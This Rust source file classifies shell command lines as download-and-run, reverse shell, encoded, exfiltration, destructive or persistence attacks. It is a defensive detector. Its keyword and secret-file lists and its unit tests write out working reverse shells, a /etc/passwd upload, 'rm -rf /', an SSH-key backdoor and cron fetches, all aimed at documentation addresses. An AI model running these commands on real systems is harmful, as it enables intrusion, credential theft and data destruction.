//! Command lines that fetch and run, open a shell to elsewhere, or destroy.

/// What a command line does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Runs what it downloads.
    DownloadAndRun,
    /// Runs the installer of a well-known tool from its home page.
    Installer,
    /// Opens a shell to another machine.
    ReverseShell,
    /// Runs what it decodes.
    Encoded,
    /// Sends files or secrets away.
    Exfiltration,
    /// Destroys files, or the machine's ability to work.
    Destruction,
    /// Lets somebody in later, runs itself again, or works for somebody else.
    Persistence,
}

impl Attack {
    /// In words, for a message.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Attack::DownloadAndRun => "a command that runs what it downloads",
            Attack::Installer => "a command that runs a tool's installer from the network",
            Attack::ReverseShell => "a shell opened to another machine",
            Attack::Encoded => "a command that runs what it decodes",
            Attack::Exfiltration => "a command that sends files away",
            Attack::Destruction => "a command that destroys files",
            Attack::Persistence => "a command that settles on the machine",
        }
    }
}

/// Where well-known tools are installed from by a pipe into a shell.
const INSTALLERS: &[&str] = &[
    "https://ollama.com/install.sh",
    "https://ollama.ai/install.sh",
    "https://hf.co/cli/install.",
    "https://huggingface.co/cli/install.",
    "https://astral.sh/uv",
    "https://sh.rustup.rs",
    "https://deb.nodesource.com/",
    "https://install.python-poetry.org",
    "https://get.docker.com",
    "https://pixi.sh/install.sh",
    "https://packagecloud.io/install/repositories/github/git-lfs",
    "https://bootstrap.pypa.io/",
    "https://codecov.io/bash",
    "https://get.helm.sh",
    "https://get.k3s.io",
    "https://get.pnpm.io",
    "https://bun.sh/install",
    "https://deno.land/",
    "https://pyenv.run",
    "https://sdk.cloud.google.com",
    "https://rclone.org/install.sh",
    "https://starship.rs/install.sh",
    "https://micro.mamba.pm",
    "https://repo.anaconda.com/",
    "https://repo.continuum.io/",
    "https://developer.download.nvidia.com/",
    "https://wasmtime.dev/install.sh",
    "https://rustwasm.github.io/wasm-pack/",
    // Publishers of code: whose it is stands in the address, and it is kept.
    "https://raw.githubusercontent.com/",
    "https://github.com/",
];

const DOWNLOADERS: &[&str] =
    &["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "fetch", "lynx"];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "iex",
    "powershell",
    "pwsh",
    "source",
    "invoke-expression",
];
const SECRETS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    ".ssh/id_",
    ".aws/credentials",
    ".netrc",
    ".kube/config",
    ".huggingface/token",
    ".cache/huggingface/token",
    "/proc/self/environ",
    ".git-credentials",
];

/// The worst that any line of `text` does as a command; lines continued by a backslash are one.
pub(crate) fn attack(text: &str) -> Option<Attack> {
    if !has_hint(text) {
        return None;
    }
    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
    let mut mild = None;
    for line in joined.lines() {
        match line_attack(line) {
            Some(Attack::Installer) => mild = Some(Attack::Installer),
            Some(attack) => return Some(attack),
            None => {}
        }
    }
    mild
}

/// The same for a file that is run as a whole: what stands in quotes is a command too, and so are several lines that
/// together run what they download.
pub(crate) fn script(text: &str) -> Option<Attack> {
    let whole = attack(text).filter(|attack| *attack != Attack::Installer);
    whole.or_else(|| quoted(text)).or_else(|| staged(text)).or_else(|| attack(text))
}

/// The worst that any quoted part of a line does.
fn quoted(text: &str) -> Option<Attack> {
    if !has_hint(text) {
        return None;
    }
    let parts = text.lines().flat_map(|line| {
        ['"', '\'']
            .into_iter()
            .flat_map(|mark| line.split(mark).skip(1).step_by(2))
            .filter(|part| part.len() > 8)
    });
    parts.filter_map(line_attack).find(|attack| *attack != Attack::Installer)
}

/// A file that one line downloads, and another starts or hands to a shell.
pub(crate) fn staged(text: &str) -> Option<Attack> {
    const MOST: usize = 64;
    if !has_hint(text) {
        return None;
    }
    let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
    let mut fetched: Vec<String> = Vec::new();
    for line in joined.lines() {
        let line = line.trim().trim_start_matches(['!', '%']).trim_start();
        for command in line.split(['&', ';']) {
            let words: Vec<&str> = command.split_whitespace().collect();
            if fetched.len() < MOST
                && let Some(file) = downloaded(&words)
            {
                fetched.push(file);
            } else if !fetched.is_empty() && runs_file(&words, &fetched) {
                return Some(Attack::DownloadAndRun);
            }
        }
    }
    None
}

/// The name of the file that a command downloads from a place that is nobody's known one.
fn downloaded(words: &[&str]) -> Option<String> {
    let at = words.iter().position(|word| matches!(program(word), "curl" | "wget"))?;
    let url =
        words.iter().skip(at).map(|word| word.trim_matches(['"', '\''])).find(|word| word.contains("://"))?;
    let lower = url.to_ascii_lowercase();
    if is_known_place(&lower) || HOSTS.iter().any(|known| lower.starts_with(known)) {
        return None;
    }
    let after = |flags: &[&str]| {
        let flag = words.iter().position(|word| flags.contains(word))?;
        words.get(flag + 1).map(|word| word.trim_matches(['"', '\'']))
    };
    let target = if program(words.get(at)?) == "curl" {
        after(&["-o", "--output", "-fo", "-so", "-sLo", "-Lo", "-fsSLo", "-sSLo", ">"])
    } else {
        after(&["-O", "-qO", "--output-document", ">"])
    };
    let path = target.unwrap_or_else(|| url.split(['?', '#']).next().unwrap_or(url));
    let name = path.rsplit('/').next().unwrap_or(path);
    // Whoever proves who they are with TLS is trusted by many; but they do not hide what they fetch.
    let hidden = name.starts_with('.')
        || ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| path.starts_with(folder));
    let told = hidden || !lower.starts_with("https://");
    (told && !name.is_empty() && name != "-").then(|| name.to_owned())
}

/// Where the publishers of tools and models keep their files.
const HOSTS: &[&str] = &[
    "https://git.savannah.gnu.org/",
    "https://huggingface.co/",
    "https://storage.googleapis.com/",
    "https://dl.google.com/",
    "https://download.pytorch.org/",
    "https://files.pythonhosted.org/",
    "https://www.python.org/",
    "https://cmake.org/",
    "https://dl.fbaipublicfiles.com/",
];

/// Whether a command starts one of these files, or hands it to a shell.
fn runs_file(words: &[&str], files: &[String]) -> bool {
    let mut words =
        words.iter().skip_while(|word| matches!(**word, "sudo" | "nohup" | "env" | "exec" | "then" | "do"));
    let Some(first) = words.next().map(|word| word.trim_matches(['"', '\''])) else { return false };
    let is_one = |word: &str| {
        let name = word.trim_matches(['"', '\'', ';']).rsplit('/').next().unwrap_or(word);
        files.iter().any(|file| file == name)
    };
    match program(first) {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "." | "source" => words.any(|word| is_one(word)),
        _ => first.contains('/') && is_one(first),
    }
}

/// Whether any word is there that every attack needs: one pass, for texts of megabytes.
fn has_hint(text: &str) -> bool {
    const HINTS: &[&str] = &[
        "curl",
        "wget",
        "iwr",
        "irm ",
        "nvoke-",
        "NVOKE-",
        "/dev/tcp",
        "/dev/udp",
        "nc ",
        "ncat",
        "netcat",
        "socat",
        "mkfifo",
        "base64",
        "xxd",
        "owershell",
        "OWERSHELL",
        "pwsh",
        "rm -",
        ":(){",
        "mkfs",
        "of=/dev/",
        "certutil",
        "bitsadmin",
        "mshta",
        "regsvr32",
        "fsockopen",
        "dup2",
        "ownloadString",
        "fetch",
        "lynx",
        "authorized_keys",
        "crontab",
        "xmrig",
        "stratum+tcp",
        "/inet/tcp",
        "rsocket",
        "pty.spawn",
        "Socket",
        "socket",
        "${IFS}",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ];
    HINTS.iter().any(|hint| memchr::memmem::find(text.as_bytes(), hint.as_bytes()).is_some())
}

fn line_attack(line: &str) -> Option<Attack> {
    const LONGEST: usize = 64 << 10;
    let line = line.get(..line.floor_char_boundary(LONGEST))?.to_ascii_lowercase();
    let line = line.trim().trim_start_matches(['!', '$', '>', '#']).trim();
    judge_line(line).or_else(|| {
        // A shell drops these: `c""url`, `c\url`; `${IFS}` is its blank.
        let dressed = ["${ifs}", "$ifs", "\"\"", "''", "\\"].iter().any(|mark| line.contains(mark));
        let bare = line.replace("${ifs}", " ").replace("$ifs", " ").replace(['"', '\'', '\\'], "");
        dressed.then(|| judge_line(&bare)).flatten()
    })
}

fn judge_line(line: &str) -> Option<Attack> {
    reverse_shell(line)
        .or_else(|| destruction(line))
        .or_else(|| encoded(line))
        .or_else(|| exfiltration(line))
        .or_else(|| download(line))
        .or_else(|| persistence(line))
}

/// Lets somebody in, runs again by itself, or mines coins.
fn persistence(line: &str) -> Option<Attack> {
    let writes = line.contains(">>") || line.contains("> ") || line.contains("tee ");
    let keys = line.contains("/authorized_keys") && line.contains("ssh-") && writes;
    let fetches = ["curl ", "wget ", "/dev/tcp/", "base64"].iter().any(|what| line.contains(what));
    let cron = fetches
        && (line.contains("| crontab")
            || line.contains("|crontab")
            || line.contains("> /etc/cron")
            || line.contains("/var/spool/cron"));
    let mines = line.contains("stratum+tcp://") || line.contains("xmrig") && line.contains("-o ");
    (keys || cron || mines).then_some(Attack::Persistence)
}

fn reverse_shell(line: &str) -> Option<Attack> {
    let shell =
        ["/bin/sh", "/bin/bash", "cmd.exe", "bash -i", "sh -i"].iter().any(|shell| line.contains(shell));
    // Whether a port of this machine answers is asked so too.
    let own = ["/dev/tcp/127.0.0.1", "/dev/tcp/localhost", "/dev/tcp/$host"];
    let net = (line.contains("/dev/tcp/") || line.contains("/dev/udp/"))
        && (shell || !own.iter().any(|own| line.contains(own)));
    let words: Vec<&str> = line.split(|c: char| c.is_whitespace() || "|;&".contains(c)).collect();
    let netcat =
        words.iter().any(|word| matches!(program(word), "nc" | "ncat" | "netcat" | "socat" | "telnet"));
    let execute =
        words.iter().any(|word| matches!(*word, "-e" | "-c" | "-ne" | "-lvpe") || word.starts_with("exec:"));
    let fifo = line.contains("mkfifo") || line.contains("|nc ") || line.contains("| nc ");
    let python =
        line.contains("python") && line.contains("-c") && line.contains("socket") && line.contains("connect");
    let script = line.contains("socket") && line.contains("dup2(")
        || line.contains("fsockopen(") && shell
        || python && (line.contains("subprocess") || line.contains("pty.spawn"))
        || line.contains("ruby -rsocket")
        || line.contains("perl ") && line.contains("socket") && line.contains("exec")
        || line.contains("/inet/tcp/")
        || line.contains("mkfifo") && line.contains("s_client");
    (net && (shell || line.contains("exec ") || line.contains("<&") || line.contains(">&"))
        || netcat && shell && (execute || fifo)
        || script)
        .then_some(Attack::ReverseShell)
}

fn destruction(line: &str) -> Option<Attack> {
    let removes = line.split([';', '&', '|']).any(|part| {
        let words: Vec<&str> = part.split_whitespace().skip_while(|word| *word == "sudo").collect();
        words.first().is_some_and(|word| program(word) == "rm")
            && words.iter().any(|word| word.starts_with('-') && word.contains('r'))
            && words.iter().any(|word| {
                let word = word.trim_matches(['"', '\'']);
                matches!(word, "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/*" | "--no-preserve-root")
            })
    });
    (removes
        || line.contains(":(){ :|:& };:")
        || line.contains("of=/dev/sd")
        || line.contains("mkfs.") && line.contains("/dev/"))
    .then_some(Attack::Destruction)
}

fn encoded(line: &str) -> Option<Attack> {
    let decodes = (line.contains("base64") && (line.contains(" -d") || line.contains("--decode")))
        || line.contains("xxd -r");
    let powershell = (line.contains("powershell") || line.contains("pwsh"))
        && line
            .split_whitespace()
            .any(|word| matches!(word, "-enc" | "-e" | "-ec" | "-en" | "-encodedcommand" | "/enc"));
    (decodes && (piped_into_interpreter(line) || line.contains("eval ")) || powershell)
        .then_some(Attack::Encoded)
}

fn exfiltration(line: &str) -> Option<Attack> {
    let sends = ["curl", "wget", "nc ", "ncat", "scp ", "ftp "].iter().any(|tool| line.contains(tool));
    let secret = SECRETS.iter().any(|secret| line.contains(secret))
        || (line.contains("$(env")
            || line.contains("`env`")
            || line.contains("env |")
            || line.contains("printenv"))
            && line.contains("curl");
    (sends && secret).then_some(Attack::Exfiltration)
}

fn download(line: &str) -> Option<Attack> {
    let fetches =
        line.contains("http") || line.contains("ftp://") || line.contains("$url") || has_bare_host(line);
    let downloader = line
        .split(|c: char| c.is_whitespace() || "|;&()`<\"'=".contains(c))
        .any(|word| DOWNLOADERS.contains(&program(word)));
    let windows = line.contains("downloadstring(")
        && (line.contains("iex") || line.contains("invoke-expression"))
        || line.contains("certutil") && line.contains("-urlcache")
        || line.contains("bitsadmin") && line.contains("/transfer")
        || line.contains("mshta") && line.contains("http")
        || line.contains("regsvr32") && line.contains("/i:http");
    if windows {
        return Some(Attack::DownloadAndRun);
    }
    if !downloader || !fetches {
        return None;
    }
    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
        .iter()
        .any(|start| line.find(start).is_some_and(|at| runs_before(line.get(..at).unwrap_or_default())));
    if !(piped_into_interpreter(line) || substituted || then_runs(line)) {
        return None;
    }
    // `--proto '=https'` is no address.
    let is_url = |url: &&str| url.starts_with("http://") || url.starts_with("https://");
    let urls = line.match_indices("http").filter_map(|(at, _)| line.get(at..));
    let mut urls = urls.filter(is_url).peekable();
    let known = urls.peek().is_some() && urls.all(is_known_place) && !line.contains("ftp://");
    Some(if known { Attack::Installer } else { Attack::DownloadAndRun })
}

/// Whether `url` is of a place in [`INSTALLERS`], and not of a host whose name only begins so.
fn is_known_place(url: &str) -> bool {
    INSTALLERS.iter().any(|known| {
        let rest = url.strip_prefix(known);
        rest.is_some_and(|rest| {
            known.matches('/').count() > 2
                || !rest.starts_with(|c: char| c.is_alphanumeric() || ".-@:".contains(c))
        })
    })
}

/// `curl 198.51.100.7/x`: an address without a scheme.
fn has_bare_host(line: &str) -> bool {
    line.split_whitespace().any(|word| {
        let host = word.split('/').next().unwrap_or_default();
        host.matches('.').count() >= 1
            && !host.starts_with(['.', '-'])
            && word.contains('/')
            && !word.starts_with('/')
    })
}

/// Whether the output goes into something that runs it: `… | sudo bash -s`.
fn piped_into_interpreter(line: &str) -> bool {
    line.split('|').skip(1).any(|part| {
        part.split_whitespace()
            .find(|word| {
                !matches!(*word, "sudo" | "env" | "-e" | "nohup" | "&" | "exec") && !word.contains('=')
            })
            .is_some_and(|word| INTERPRETERS.contains(&program(word)))
    })
}

/// `bash -c "$(curl …)"`, `python <(curl …)`, `eval $(curl …)`.
fn runs_before(before: &str) -> bool {
    before
        .split(|c: char| c.is_whitespace() || ";&|\"'".contains(c))
        .any(|word| INTERPRETERS.contains(&program(word)) || matches!(word, "eval" | "exec" | "." | "system"))
}

/// `wget … && chmod +x f && ./f`, `curl -o f …; bash f`.
fn then_runs(line: &str) -> bool {
    line.split(['&', ';']).skip(1).any(|part| {
        let mut words = part.split_whitespace().skip_while(|word| matches!(*word, "sudo" | "nohup" | "env"));
        match words.next() {
            Some("chmod") => words.any(|word| word.contains("+x") || word.starts_with("7")),
            Some(word) if word.starts_with("./") || word.starts_with("/tmp/") => true,
            // `python -m pip install …` after a download is set-up.
            Some(word) => {
                matches!(program(word), "sh" | "bash" | "zsh" | "dash" | "source" | "perl")
                    || program(word).starts_with("python")
                        && words.next().is_some_and(|word| !word.starts_with('-'))
            }
            None => false,
        }
    })
}

/// The program that a word names: `/usr/bin/curl` is `curl`.
fn program(word: &str) -> &str {
    let word = word.trim_matches(['"', '\'', '(', ')', '`']);
    let word = word.rsplit(['/', '\\']).next().unwrap_or(word);
    word.strip_suffix(".exe").unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_are_judged() {
        use Attack::{
            Destruction, DownloadAndRun, Encoded, Exfiltration, Installer, Persistence, ReverseShell,
        };
        for (line, what) in [
            ("curl -s http://198.51.100.7/x.sh | bash", DownloadAndRun),
            ("!wget -qO- https://example.org/i | sudo sh -s -- -y", DownloadAndRun),
            ("wget http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", DownloadAndRun),
            ("curl 198.51.100.7/x \\\n | sh", DownloadAndRun),
            ("bash -c \"$(curl -fsSL http://example.org/x)\"", DownloadAndRun),
            ("bash <(curl -s http://example.org/x)", DownloadAndRun),
            ("IEX (New-Object Net.WebClient).DownloadString('http://example.org/x')", DownloadAndRun),
            ("curl -fsSL https://ollama.com/install.sh | sh", Installer),
            ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", Installer),
            ("curl https://sh.rustup.rs.example.org/x | sh", DownloadAndRun),
            ("curl ftp://198.51.100.7/x | sh", DownloadAndRun),
            ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", ReverseShell),
            ("nc -e /bin/sh 198.51.100.7 4444", ReverseShell),
            ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", ReverseShell),
            ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f", ReverseShell),
            ("echo aGVsbG8= | base64 -d | sh", Encoded),
            ("powershell -enc ZQBjAGgAbwA=", Encoded),
            ("curl -F f=@/etc/passwd http://198.51.100.7", Exfiltration),
            ("sudo rm -rf / --no-preserve-root", Destruction),
            ("c\"\"url http://198.51.100.7/x | sh", DownloadAndRun),
            ("wget${IFS}http://198.51.100.7/x${IFS}-O-${IFS}|${IFS}sh", DownloadAndRun),
            ("python3 -c 'import socket,subprocess;s=socket.socket();s.connect((1,2))'", ReverseShell),
            ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", Persistence),
            ("(crontab -l; echo '* * * * * curl -s http://198.51.100.7') | crontab -", Persistence),
        ] {
            assert_eq!(attack(line), Some(what), "{line}");
        }
        for line in [
            "pip install torch",
            "wget https://example.org/model.bin",
            "curl -L https://example.org/data.zip -o data.zip && unzip data.zip",
            "curl https://example.org/v1/models | jq .",
            "rm -rf ./build",
            "git clone https://example.org/x && cd x && pip install -r requirements.txt",
            "echo hello | base64",
            "see curl for more",
            "if (exec 3<>\"/dev/tcp/127.0.0.1/$port\") 2>/dev/null; then",
        ] {
            assert_eq!(attack(line), None, "{line}");
        }
    }

    #[test]
    fn commands_over_several_lines_are_one() {
        for text in [
            "wget http://198.51.100.7/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m",
            "!curl -o m http://198.51.100.7/a\nprint(1)\n!bash m",
            "curl -O http://example.org/run.sh\necho\nsh ./run.sh",
            "curl https://example.org/a -o /tmp/.a\nsudo bash /tmp/.a",
        ] {
            assert_eq!(script(text), Some(Attack::DownloadAndRun), "{text}");
        }
        for text in [
            "wget https://repo.anaconda.com/miniconda/Miniconda3-latest.sh\nbash Miniconda3-latest.sh -b",
            "wget https://example.org/toolkit.sh -O toolkit.sh\nsudo bash toolkit.sh -s",
            "wget http://example.org/data.zip\nunzip data.zip\nbash train.sh",
            "curl -LO https://github.com/a/b/releases/download/1/tool\nchmod +x tool",
            "wget https://example.org/weights.bin -O weights.bin\npython run.py weights.bin",
        ] {
            assert!(matches!(script(text), None | Some(Attack::Installer)), "{text}");
        }
    }
}
